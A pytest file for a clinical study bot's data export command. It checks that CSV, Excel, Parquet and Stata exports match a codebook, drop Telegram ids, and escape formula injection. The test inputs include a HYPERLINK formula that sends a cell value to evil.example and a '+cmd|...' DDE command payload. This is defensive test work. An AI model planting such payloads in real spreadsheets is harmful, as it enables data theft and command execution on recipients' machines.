"""Exports read back in pandas in every format; the codebook covers every column; no Telegram ids."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncEngine
from typer.testing import CliRunner

from bot.cli import app as cli
from bot.clock import FakeClock
from bot.protocol import StudyProtocol
from bot.services.codebook import DATASETS
from tests.study_seed import seed_study


def read(path: Path, fmt: str) -> dict[str, pd.DataFrame]:
    if fmt == "xlsx":
        return pd.read_excel(path / "study.xlsx", sheet_name=None)
    suffix = {"csv": ".csv", "parquet": ".parquet", "stata": ".dta"}[fmt]
    tables = {}
    for dataset in DATASETS:
        file = path / f"{dataset}{suffix}"
        tables[dataset] = (
            pd.read_csv(file, encoding="utf-8-sig")
            if fmt == "csv"
            else pd.read_parquet(file)
            if fmt == "parquet"
            else pd.read_stata(file)
        )
    codebook = path / ("codebook.parquet" if fmt == "parquet" else "codebook.csv")
    tables["codebook"] = pd.read_parquet(codebook) if fmt == "parquet" else pd.read_csv(codebook, encoding="utf-8-sig")
    return tables


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet", "stata"])
async def test_it_exports_every_dataset_with_a_matching_codebook(
    engine: AsyncEngine, protocol: StudyProtocol, clock: FakeClock, cli_env: str, tmp_path: Path, fmt: str
) -> None:
    seeded = await seed_study(engine, protocol, clock)
    result = await asyncio.to_thread(CliRunner().invoke, cli, ["export", "--out", "out", "--format", fmt])
    assert result.exit_code == 0, result.stderr
    tables = read(tmp_path / "out", fmt)
    codebook = tables.pop("codebook")
    for dataset, table in tables.items():
        documented = codebook.loc[codebook["dataset"] == dataset, "variable"].tolist()
        assert list(table.columns) == documented, dataset
    assert len(tables["patients"]) == 8
    assert set(tables["patients"]["group"]) == {"il2", "control"}
    assert len(tables["checkins"]) == 4
    assert len(tables["infections"]) == 1
    assert tables["infections"]["organism"].tolist() == ["肺炎链球菌"]
    assert len(tables["escalations"]) == 2
    assert tables["escalations"]["minutes_to_acknowledge"].dropna().tolist() == [7.0]
    assert (tables["doses"]["status"] == "taken").any()
    urgent = tables["checkins"][tables["checkins"]["triage_level"] == "urgent"].iloc[0]
    assert (urgent["max_temp"], urgent["symptoms_dyspnea"]) == (39.9, 1)
    chat_ids = {str(chat) for chat in seeded.chat_ids}
    for table in tables.values():
        assert not chat_ids & set(table.astype(str).to_numpy().ravel()), "a Telegram id leaked into an export"
    assert "codes" in codebook.columns
    assert codebook["label_zh"].str.len().min() > 0


async def test_it_writes_csv_with_a_bom_and_limits_an_export_to_a_site(
    engine: AsyncEngine, protocol: StudyProtocol, clock: FakeClock, cli_env: str, tmp_path: Path
) -> None:
    await seed_study(engine, protocol, clock)
    result = await asyncio.to_thread(CliRunner().invoke, cli, ["export", "--out", "ber", "--site", "BER"])
    assert result.exit_code == 0, result.stderr
    assert (tmp_path / "ber" / "patients.csv").read_bytes().startswith(b"\xef\xbb\xbfstudy_id,")
    patients = pd.read_csv(tmp_path / "ber" / "patients.csv", encoding="utf-8-sig")
    assert set(patients["site"]) == {"BER"}
    result = await asyncio.to_thread(CliRunner().invoke, cli, ["export", "--out", "x", "--format", "sas"])
    assert (result.exit_code, result.stderr) == (1, "error: --format: use one of csv, xlsx, parquet, stata\n")


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def _record_hostile_texts(tmp_path: Path) -> None:
    """A clinic infection whose organism is a formula and losses to follow-up whose reasons start with '+'."""
    runner = CliRunner()
    for args in (
        [
            *("infections", "record", "--study-id", "PKU-002", "--onset", "2026-03-01", "--site-type", "pneumonia"),
            *("--pathogen", "bacterial", "--grade", "2", "--treatment", "iv_antimicrobial", "--organism", FORMULA),
        ],
        ["patients", "lost", "PKU-003", "--reason", "+cmd|' /C calc'!A0"],
        ["patients", "lost", "PKU-004", "--reason", "\t@SUM(1+1)"],
    ):
        result = await asyncio.to_thread(runner.invoke, cli, args)
        assert result.exit_code == 0, result.stderr


async def test_it_writes_no_live_formula_into_an_xlsx_export(
    engine: AsyncEngine, protocol: StudyProtocol, clock: FakeClock, cli_env: str, tmp_path: Path
) -> None:
    await seed_study(engine, protocol, clock)
    await _record_hostile_texts(tmp_path)
    result = await asyncio.to_thread(CliRunner().invoke, cli, ["export", "--out", "out", "--format", "xlsx"])
    assert result.exit_code == 0, result.stderr
    workbook = load_workbook(tmp_path / "out" / "study.xlsx")
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert "'" + FORMULA in texts
    assert "'+cmd|' /C calc'!A0" in texts


async def test_it_writes_csv_cells_that_no_spreadsheet_runs_as_formulas(
    engine: AsyncEngine, protocol: StudyProtocol, clock: FakeClock, cli_env: str, tmp_path: Path
) -> None:
    await seed_study(engine, protocol, clock)
    await _record_hostile_texts(tmp_path)
    result = await asyncio.to_thread(CliRunner().invoke, cli, ["export", "--out", "out"])
    assert result.exit_code == 0, result.stderr
    for path in (tmp_path / "out").glob("*.csv"):
        for cells in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], path.name
    infections = pd.read_csv(tmp_path / "out" / "infections.csv", encoding="utf-8-sig")
    assert "'" + FORMULA in infections["organism"].tolist()
    patients = pd.read_csv(tmp_path / "out" / "patients.csv", encoding="utf-8-sig", keep_default_na=False)
    assert "'@SUM(1+1)" in patients["end_reason"].tolist()


async def test_it_keeps_a_text_as_typed_in_parquet_and_stata_and_says_so_in_the_codebook(
    engine: AsyncEngine, protocol: StudyProtocol, clock: FakeClock, cli_env: str, tmp_path: Path
) -> None:
    await seed_study(engine, protocol, clock)
    await _record_hostile_texts(tmp_path)
    for fmt in ("parquet", "stata"):
        result = await asyncio.to_thread(CliRunner().invoke, cli, ["export", "--out", fmt, "--format", fmt])
        assert result.exit_code == 0, result.stderr
        assert FORMULA in read(tmp_path / fmt, fmt)["infections"]["organism"].tolist()
    codebook = read(tmp_path / "parquet", "parquet")["codebook"]
    organism = codebook[(codebook["dataset"] == "infections") & (codebook["variable"] == "organism")].iloc[0]
    assert "prefixed with '" in organism["note"]
    assert "Parquet and Stata keep the text as typed" in organism["note"]
